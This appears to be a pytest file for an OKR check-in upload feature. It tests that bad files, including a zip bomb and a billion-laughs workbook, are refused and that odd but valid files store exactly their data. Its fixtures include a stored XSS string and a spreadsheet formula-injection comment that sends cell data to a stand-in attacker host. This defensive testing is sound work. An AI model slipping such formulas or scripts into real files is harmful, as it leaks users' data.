"""The upload corpus (tests/data/upload, written by tests/make_corpus.py): every bad file is
reported with the message a team lead reads and changes nothing stored; every odd-but-valid file
stores exactly the check-ins it holds, and nothing else.

Each file is committed as the Upload progress page commits it: `check_and_store` for the file's
team at the review of 2027-05-31, not a dry run."""

from __future__ import annotations

import datetime as dt
import pathlib

import pandas as pd
import pytest

from conftest import DEMO_AS_OF
from loaders.ingest import check_and_store
from store.database import Store, UploadedFile

CORPUS = pathlib.Path(__file__).parent / "data" / "upload"
MAY_31 = pd.Timestamp("2027-05-31")

# file → (severity, distinctive part of the message, (sheet, row, column) it names or None)
BAD_FILES = {
    "empty.csv": ("error", "the file is empty", None),
    "binary_garbage.xlsx": ("error", "this is not a CSV or XLSX file (it holds binary data)", None),
    "password_protected.xlsx": ("error", "password-protected workbook or an old .xls file; remove the password", None),
    "zip_bomb.xlsx": ("error", "expands to far more data than it holds (a zip bomb", None),
    "truncated.xlsx": ("error", "the workbook is damaged and cannot be opened", None),
    "wrong_sheet.xlsx": ("error", "no sheet of the OKR workbook format was found", None),
    "only_header.csv": ("warning", "the sheet has a header but no rows", None),
    "unknown_kr_id.csv": (
        "error",
        'unknown kr_id "SAL-02-KR1" (did you mean "SAL-O2-KR1"?)',
        ("unknown_kr_id", 2, "kr_id"),
    ),
    "other_team_kr.csv": (
        "error",
        "MKT-O1-KR1 is a key result of team Marketing, not of team Sales",
        ("other_team_kr", 3, "kr_id"),
    ),
    "non_numeric_value.csv": ("error", '"about 15" is not a number', ("non_numeric_value", 2, "value")),
    "date_far_future.csv": (
        "error",
        "date 2207-05-31 is more than 7 days after the review date 2027-05-31",
        ("date_far_future", 2, "date"),
    ),
    "date_not_a_date.csv": ("error", '"end of May" is not a date (use YYYY-MM-DD)', ("date_not_a_date", 2, "date")),
    "duplicate_rows.csv": (
        "error",
        "duplicate kr_id + date SAL-O2-KR1, 2027-05-31 (first at row 2)",
        ("duplicate_rows", 3, "date"),
    ),
    "missing_kr_id_column.csv": ("error", "its header looks like CheckIns but has no kr_id column", None),
    "missing_value_column.xlsx": ("error", "the sheet has no value column", ("CheckIns", None, "value")),
    "formula_without_result.xlsx": (
        "error",
        'the formula "=450000+62000" has no saved result',
        ("CheckIns", 2, "value"),
    ),
    "nan_inf_values.csv": ("error", '"inf" is not a finite number', ("nan_inf_values", 2, "value")),
    "negative_confidence.csv": ("error", "confidence -1 is outside 0–10", ("negative_confidence", 2, "confidence")),
    "confidence_11.csv": ("error", "confidence 11 is outside 0–10", ("confidence_11", 2, "confidence")),
    "status_word_typo.csv": (
        "error",
        '"Good progres" is not one of: Not started, Early progress',
        ("status_word_typo", 2, "status"),
    ),
    "engineering_number_for_status_kr.csv": (
        "error",
        "this KR is measured by status",
        ("engineering_number_for_status_kr", 2, "status"),
    ),
    "status_for_numeric_kr.csv": (
        "error",
        "this number KR needs a numeric value",
        ("status_for_numeric_kr", 2, "value"),
    ),
    "only_empty_sheets.xlsx": ("error", "the file holds no data", None),
    "duplicate_headers.csv": (
        "error",
        '2 columns are headed "value" (columns C, D); keep one and delete the others',
        ("duplicate_headers", 1, "value"),
    ),
    "excel_error_value.xlsx": (
        "error",
        "the cell shows the error #DIV/0! (its formula failed); fix the formula, or type the value instead",
        ("CheckIns", 2, "value"),
    ),
    "overlong_cell.csv": (
        "error",
        "the cell holds 40,000 characters; a spreadsheet cell holds at most 32,767 (Excel's limit): shorten it",
        ("overlong_cell", 2, "comment"),
    ),
    "billion_laughs.xlsx": (
        "error",
        "the workbook's xl/sharedStrings.xml declares XML entities, which Excel never "
        "writes (a file made to exhaust the server's memory)",
        None,
    ),
}


def check_in(kr_id, value=None, status=None, confidence=None, comment=None, updated_by=None, date=MAY_31):
    return {
        "kr_id": kr_id,
        "date": date,
        "value": value,
        "status": status,
        "confidence": confidence,
        "comment": comment,
        "updated_by": updated_by,
    }


# file → the check-ins it must add, and the distinctive part of each warning it must raise
GOOD_FILES = {
    "template_filled.xlsx": (
        [
            check_in("SAL-O2-KR1", 512000, confidence=8, comment="Two deals closed"),
            check_in("SAL-O3-KR2", 3, confidence=5),
        ],
        [],
    ),
    "checkins_sheet.xlsx": (
        [
            check_in("SAL-O2-KR1", 512000, confidence=7, comment="Two deals closed", updated_by="Maya Goldberg"),
            check_in("SAL-O2-KR3", 23.5, confidence=8, updated_by="Fatima Zahra"),
        ],
        [],
    ),
    "full_workbook.xlsx": (
        [
            check_in("SAL-O2-KR1", 512000, confidence=7, comment="Two deals closed", updated_by="Maya Goldberg"),
            check_in("SAL-O2-KR2", 15, confidence=7, updated_by="Maya Goldberg"),
        ],
        [],
    ),
    "current_column_no_date.csv": (
        [
            check_in("SAL-O2-KR1", 512000, comment="Two deals closed"),
            check_in("SAL-O3-KR3", 97),
        ],
        [],
    ),
    "semicolon_decimal_comma.csv": (
        [
            check_in("SAL-O2-KR1", 512000.5, comment="Zwei Abschlüsse"),
            check_in("SAL-O2-KR3", 23.5),
        ],
        [],
    ),
    "excel_serial_dates.xlsx": ([check_in("SAL-O2-KR1", 512000), check_in("SAL-O2-KR2", 15)], []),
    "percent_and_dollar.csv": (
        [check_in("SAL-O2-KR3", 24), check_in("SAL-O2-KR1", 1200)],
        ["value 1,200 is below the previous check-in (338,000 on 2027-05-28) for a KR meant to increase"],
    ),
    "utf16_tab.csv": ([check_in("SAL-O2-KR1", 512000, comment="Déjà deux contrats")], []),
    "utf16le_without_bom.csv": ([check_in("SAL-O2-KR1", 512000)], []),
    "csv_named_xlsx.xlsx": ([check_in("SAL-O2-KR1", 512000)], []),
    "cp1252_accents.csv": ([check_in("SAL-O2-KR1", 512000, comment="Signé à Zürich – café")], []),
    "title_rows_above_header.xlsx": ([check_in("SAL-O2-KR1", 512000, confidence=7)], []),
    "longest_cell.xlsx": ([check_in("SAL-O2-KR1", 512000, confidence=7, comment=("Long note. " * 3000)[:32_767])], []),
    "na_values.csv": ([check_in("SAL-O2-KR3", 24)], []),
    "engineering_status_odd_case.csv": ([check_in("ENG-O2-KR2", status="Good progress", confidence=7)], []),
    "html_in_comment.csv": (
        [check_in("SAL-O2-KR1", 512000, confidence=7, comment="<script>alert('x')</script><b>bold</b> **not bold**")],
        [],
    ),
    "value_moved_backwards.csv": (
        [
            check_in("SAL-O2-KR1", 300000, confidence=6, comment="Deal slipped out"),
            check_in("SAL-O2-KR4", 85, confidence=6),
        ],
        [
            "value 300,000 is below the previous check-in (338,000 on 2027-05-28) for a KR meant to increase",
            "value 85 is above the previous check-in (79 on 2027-05-28) for a KR meant to decrease",
        ],
    ),
    "utf8_bom.csv": ([check_in("SAL-O2-KR1", 512000, comment="Déjà signé")], []),
    "utf16be_bom.csv": ([check_in("SAL-O2-KR1", 512000, comment="Größer – ça marche")], []),
    "utf16be_without_bom.csv": ([check_in("SAL-O2-KR1", 512000)], []),
    "pipe_separated.csv": ([check_in("SAL-O2-KR1", 512000, comment="Two deals, both signed")], []),
    # Tab-separated: a single comma is a decimal comma (23,5), as a lone comma is in any file.
    "tab_separated_utf8.csv": (
        [check_in("SAL-O2-KR1", 512000, confidence=7), check_in("SAL-O2-KR3", 23.5, confidence=8)],
        [],
    ),
    # Comma-separated: "23,5" (quoted) is a decimal comma, "1,250,000" groups thousands.
    "decimal_comma_quoted.csv": ([check_in("SAL-O2-KR3", 23.5), check_in("SAL-O2-KR1", 1250000)], []),
    # One order per column: 05/31/2027 can only be month first, so the whole column is, and 03/04/2027
    # is 4 March (alone it would be read day first, 3 April).
    "ambiguous_dates.csv": (
        [check_in("SAL-O2-KR1", 350000, date=pd.Timestamp("2027-03-04")), check_in("SAL-O2-KR2", 15)],
        ["value 15 is below the previous check-in (19 on 2027-05-28) for a KR meant to increase"],
    ),
    # A date cell, and a plain serial number counted from 1904-01-01 (45076 there is 2027-05-31).
    "epoch_1904.xlsx": ([check_in("SAL-O2-KR1", 512000), check_in("SAL-O2-KR2", 15)], []),
    "merged_title_cells.xlsx": ([check_in("SAL-O2-KR1", 512000, comment="Two deals closed")], []),
    "title_rows_above_header.csv": ([check_in("SAL-O2-KR1", 512000)], []),
    "empty_sheet_beside_data.xlsx": (
        [check_in("SAL-O2-KR1", 512000, confidence=7, comment="Two deals closed", updated_by="Maya Goldberg")],
        [],
    ),
    "formula_with_saved_result.xlsx": ([check_in("SAL-O2-KR1", 512000)], []),
    # Stored as typed; every export neutralises it (tests/test_hostile_input.py).
    "formula_injection_comment.csv": (
        [check_in("SAL-O2-KR1", 512000, confidence=7, comment='=HYPERLINK("http://evil.example/?d="&A1,"Click")')],
        [],
    ),
}


def team_of(file_name: str) -> str:
    return "Engineering" if file_name.startswith("engineering") else "Sales"


def commit(target: str, file_name: str, content: bytes | None = None):
    store = Store.open(target)
    try:
        before = store.read_tables()
        uploads_before = len(store.uploads())
        data = (CORPUS / file_name).read_bytes() if content is None else content
        result = check_and_store(
            store, [UploadedFile(file_name, data)], "Team lead", team=team_of(file_name), as_of=DEMO_AS_OF
        )
        return result, before, store.read_tables(), uploads_before, len(store.uploads())
    finally:
        store.close()


def test_the_corpus_holds_50_files_or_more_and_each_has_a_case():
    files = {path.name for path in CORPUS.iterdir()}
    assert len(files) >= 50
    assert files == set(BAD_FILES) | set(GOOD_FILES)


@pytest.mark.refused
@pytest.mark.parametrize("file_name", sorted(BAD_FILES))
def test_a_bad_file_is_reported_and_changes_nothing(writable_demo_db, file_name):
    severity, message, where = BAD_FILES[file_name]
    result, before, after, uploads_before, uploads_after = commit(writable_demo_db, file_name)
    matching = [p for p in result.problems if message in p.problem]
    assert matching, [str(p) for p in result.problems]
    assert matching[0].severity == severity
    if where is not None:
        assert (matching[0].sheet, matching[0].row, matching[0].column) == where
    assert not result.stored
    assert uploads_after == uploads_before
    for name, frame in before.items():
        pd.testing.assert_frame_equal(frame, after[name], obj=name)


@pytest.mark.parametrize("file_name", sorted(GOOD_FILES))
def test_an_odd_but_valid_file_stores_exactly_its_check_ins(writable_demo_db, file_name):
    expected_rows, expected_warnings = GOOD_FILES[file_name]
    result, before, after, uploads_before, uploads_after = commit(writable_demo_db, file_name)
    assert result.errors == []
    assert result.stored and uploads_after == uploads_before + 1
    for warning in expected_warnings:
        assert any(warning in p.problem and p.severity == "warning" for p in result.problems), result.problems
    key = ["kr_id", "date"]
    old = before["check_ins"].set_index(key)
    new = after["check_ins"].set_index(key)
    assert set(old.index) <= set(new.index)
    pd.testing.assert_frame_equal(new.loc[old.index], old, obj="earlier check-ins")
    added = new.drop(old.index).reset_index().sort_values(key).reset_index(drop=True)
    expected = pd.DataFrame(expected_rows).sort_values(key).reset_index(drop=True)
    assert added["kr_id"].tolist() == expected["kr_id"].tolist()
    assert added["date"].tolist() == expected["date"].tolist()
    for column in ("value", "status", "confidence", "comment", "updated_by"):
        assert [None if pd.isna(v) else v for v in added[column]] == [
            None if pd.isna(v) else v for v in expected[column]
        ], column
    for name, frame in before.items():
        if name != "check_ins":
            pd.testing.assert_frame_equal(frame, after[name], obj=name)


def test_the_html_comment_is_stored_as_text(writable_demo_db):
    result, _, after, _, _ = commit(writable_demo_db, "html_in_comment.csv")
    stored = after["check_ins"].set_index(["kr_id", "date"]).loc[("SAL-O2-KR1", MAY_31), "comment"]
    assert stored == "<script>alert('x')</script><b>bold</b> **not bold**"


def test_a_file_over_20_mb_is_refused_before_it_is_read(writable_demo_db):
    oversized = b"kr_id,date,value\n" + b"SAL-O2-KR1,2027-05-31,1\n" * (21 * 2**20 // 24)
    result, before, after, _, _ = commit(writable_demo_db, "huge.csv", oversized)
    assert any("the limit is 20 MB" in p.problem for p in result.errors)
    for name, frame in before.items():
        pd.testing.assert_frame_equal(frame, after[name], obj=name)


def test_re_uploading_a_file_changes_nothing_the_second_time(writable_demo_db):
    first, *_ = commit(writable_demo_db, "template_filled.xlsx")
    assert first.stored
    second, before, after, uploads_before, uploads_after = commit(writable_demo_db, "template_filled.xlsx")
    assert second.errors == [] and not second.stored and second.rows_changed == 0
    assert uploads_after == uploads_before
    for name, frame in before.items():
        pd.testing.assert_frame_equal(frame, after[name], obj=name)


def test_check_in_dates_up_to_a_week_after_the_review_are_accepted(writable_demo_db):
    late = b"kr_id,date,value\nSAL-O2-KR1,2027-06-07,520000\nSAL-O2-KR2,2027-06-08,16\n"
    result, *_ = commit(writable_demo_db, "june.csv", late)
    assert [(p.row, p.column) for p in result.errors] == [(3, "date")]
    assert "at the latest 2027-06-07" in result.errors[0].problem


def test_a_full_workbook_may_repeat_other_teams_rows_but_not_change_them(writable_demo_db):
    import io

    import openpyxl

    workbook = openpyxl.load_workbook(CORPUS / "full_workbook.xlsx")
    sheet = workbook["KeyResults"]
    header = [cell.value for cell in sheet[1]]
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row, 1).value == "MKT-O1-KR1":
            sheet.cell(row, header.index("target_value") + 1).value = 999
            changed_row = row
    buffer = io.BytesIO()
    workbook.save(buffer)
    result, before, after, _, _ = commit(writable_demo_db, "full_workbook_changed.xlsx", buffer.getvalue())
    assert [(p.sheet, p.row, p.column) for p in result.errors] == [("KeyResults", changed_row, "kr_id")]
    assert "MKT-O1-KR1 is a key result of team Marketing, not of team Sales" in result.errors[0].problem
    for name, frame in before.items():
        pd.testing.assert_frame_equal(frame, after[name], obj=name)


def test_the_team_krs_left_without_an_update_are_warned_about_at_their_template_row(writable_demo_db):
    result, *_ = commit(writable_demo_db, "template_filled.xlsx")
    # Of the Sales KRs in force on 2027-05-31, all but SAL-O1-KR3 (never checked in) and SAL-O3-KR1
    # (completed in April) have a May check-in in the demo data.
    missing = [p for p in result.warnings if "has no check-in for May 2027" in p.problem]
    assert [(p.row, p.problem.split()[0]) for p in missing] == [(4, "SAL-O1-KR3")]


def test_dry_run_of_a_progress_upload_previews_without_storing(writable_demo_db):
    store = Store.open(writable_demo_db)
    try:
        before = store.read_tables()
        data = (CORPUS / "template_filled.xlsx").read_bytes()
        result = check_and_store(
            store, [UploadedFile("t.xlsx", data)], "lead", dry_run=True, team="Sales", as_of=dt.date(2027, 5, 31)
        )
        after = store.read_tables()
    finally:
        store.close()
    assert result.changes["check_ins"].inserted == 2 and not result.stored
    assert set(result.preview.krs["kr_id"]) == {"SAL-O2-KR1", "SAL-O3-KR2"}
    for name, frame in before.items():
        pd.testing.assert_frame_equal(frame, after[name], obj=name)
